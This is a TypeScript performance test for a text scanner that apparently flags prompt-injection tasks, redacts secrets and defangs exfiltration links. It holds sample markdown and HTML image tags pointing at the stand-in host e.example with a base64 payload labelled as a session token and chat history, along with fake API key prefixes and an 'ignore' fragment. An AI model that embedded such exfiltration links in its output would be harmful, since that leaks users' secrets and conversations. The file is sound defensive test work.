import { describe, expect, it } from 'vitest';
import { RULES } from '../../src/scan/rules/index.js';
import { WORK_ORDER } from '../../src/scan/rules/reader-tasks.js';
import { redactSecrets } from '../../src/scan/secrets.js';
import { compileHostAllowlist } from '../../src/scan/exfil-url.js';
import { defangExfiltration } from '../../src/scan/exfiltration.js';
import { matchView } from '../../src/scan/view.js';
import { bestUnder, cpuMs } from './cpu-time.js';
import { RULE_CASES } from './rule-cases.js';

const SIZE = 100_000;
const fill = (unit: string): string => unit.repeat(Math.ceil(SIZE / unit.length)).slice(0, SIZE);

/** Hostile inputs: repeated prefixes of each positive, long runs and near matches. */
function adversarialInputs(): Array<[string, string]> {
  const inputs: Array<[string, string]> = [
    ['spaces', fill(' ')],
    ['letters', fill('a')],
    ['words', fill('ignore ')],
    ['punctuation', fill('!-[<|=')],
    ...[...'=<[(-*#@'].map((c): [string, string] => [`run of ${c}`, fill(c)]),
    ['newlines and hashes', fill('\n### ')],
    ['brackets', fill('![a](http://x?')],
    ['url', `https://${fill('a')}`],
    ['digits', fill('0123456789')],
    ['base64 run', fill('QUJD')],
    ['key-like', fill('password=')],
    ['begin key', `-----BEGIN RSA PRIVATE KEY-----${fill('A')}`],
  ];
  for (const [id, { hit }] of Object.entries(RULE_CASES)) {
    const view = matchView(hit);
    for (const cut of [0.3, 0.6, 0.9]) inputs.push([`${id} prefix ${cut}`, fill(`${view.slice(0, Math.floor(view.length * cut))} `)]);
    inputs.push([`${id} almost`, fill(view.slice(0, -1))]);
  }
  return inputs;
}

/** Openers of every defanged form and vendor key prefix, repeated and never closed. */
function defangInputs(): Array<[string, string]> {
  return [
    ...adversarialInputs(),
    ['image openers', fill('![a](https://')],
    ['nested image openers', fill('![![')],
    ['image url without close', `![a](https://x.example/${fill('a(')}`],
    ['reference definitions', fill('[r]: https://x.example/a\n![r]')],
    ['tag openers', fill('<img src=')],
    ['unclosed tag', `<img src="https://x.example/a.png" ${fill('a=b ')}`],
    ['srcset candidates', `<img srcset="${fill('https://x.example/a.png 1x, ')}">`],
    ['css url openers', fill('url(//')],
    ['bare url schemes', fill('https://')],
    ['query parameters', `https://x.example/?${fill('a=1&')}`],
    ['percent escapes', `https://x.example/?q=${fill('%41')}`],
    ['vendor prefixes', fill('sk-ant-api03-sk-proj-npm_hf_SG.dop_v1_ATATT3dapipypi-dckr_pat_AccountKey=&sig=')],
  ];
}

describe('every pattern runs in linear time on 100 KB adversarial input', () => {
  const inputs = adversarialInputs();
  // V8 compiles a pattern over 20 KB of source without its optimizations (quick checks, lookahead
  // tables); such a pattern stays linear but runs several times slower at every position.
  it.each(RULES.map((r) => [r.id, r] as const))('rule %s is short enough for V8 to optimize', (_id, rule) => {
    expect(rule.pattern.source.length).toBeLessThan(20_000);
  });
  it.each(RULES.map((r) => [r.id, r] as const))('rule %s', (_id, rule) => {
    for (const [name, input] of inputs) {
      expect(bestUnder(50, 2, () => rule.pattern.test(input)), `${rule.id} on ${name}`).toBeLessThan(50);
    }
  });
  // read outside the catalogues, only in a carrier that gives no task (rules/index.ts)
  it('the work-order pattern', () => {
    for (const [name, input] of inputs) {
      expect(bestUnder(50, 2, () => WORK_ORDER.test(input)), name).toBeLessThan(50);
    }
  });
  it('exfiltration defanging', () => {
    const allow = compileHostAllowlist(['*.x.example']);
    for (const [name, input] of defangInputs()) {
      expect(bestUnder(200, 2, () => defangExfiltration(input, allow)), name).toBeLessThan(200);
    }
  });
  it('secret redaction', () => {
    for (const [name, input] of defangInputs()) {
      expect(bestUnder(50, 2, () => redactSecrets(input)), name).toBeLessThan(50);
    }
  });
});

/** Best CPU time of five, so one pause of a shared machine does not decide the ratio. */
function bestMs(run: () => void): number {
  let best = Infinity;
  for (let i = 0; i < 5; i++) best = Math.min(best, cpuMs(run));
  return best;
}

describe('defanging and secret redaction grow linearly: 256 KB within 48x of 16 KB (as in linear-time.test.ts; quadratic would be 256x)', () => {
  const allow = compileHostAllowlist(['img.x.example']);
  const b64 = Buffer.from('the session token and the chat so far').toString('base64');
  const units: Array<[string, string]> = [
    ['a page of exfiltration images', `![a](https://e.example/p.png?d=${b64}) <img src="//e.example/i.png" srcset="https://e.example/a 1x"> url(https://e.example/c) [x]: https://e.example/${b64}\n![x] `],
    ['image openers', '![a](https://'],
    ['tag openers', '<img src='],
    ['bare URLs', 'https://e.example/?a=1&'],
    ['letters', 'a'],
    ['vendor prefixes', 'sk-proj-npm_hf_AccountKey=sig='],
  ];
  const sized = (unit: string, bytes: number) => unit.repeat(Math.ceil(bytes / unit.length)).slice(0, bytes);
  it.each(units)('%s', (_name, unit) => {
    for (const [what, fn] of [['defang', (t: string) => defangExfiltration(t, allow)], ['secrets', (t: string) => redactSecrets(t)]] as const) {
      const small = sized(unit, 16 * 1024);
      const large = sized(unit, 256 * 1024);
      fn(small);
      fn(large);
      // 16 passes over 16 KB, so the small time is not below the timer's resolution; both sizes
      // are measured again (up to three times) before a ratio fails, as a GC pause can land in either.
      let tSmall = 0;
      let tLarge = Infinity;
      for (let attempt = 0; attempt < 3 && tLarge / tSmall > 48; attempt++) {
        tSmall = bestMs(() => {
          for (let i = 0; i < 16; i++) fn(small);
        }) / 16;
        tLarge = bestMs(() => fn(large));
      }
      expect(tLarge / tSmall, `${what} on ${_name}: ${tSmall.toFixed(2)} ms vs ${tLarge.toFixed(2)} ms`).toBeLessThanOrEqual(48);
      expect(tLarge).toBeLessThan(1000);
    }
  });
});
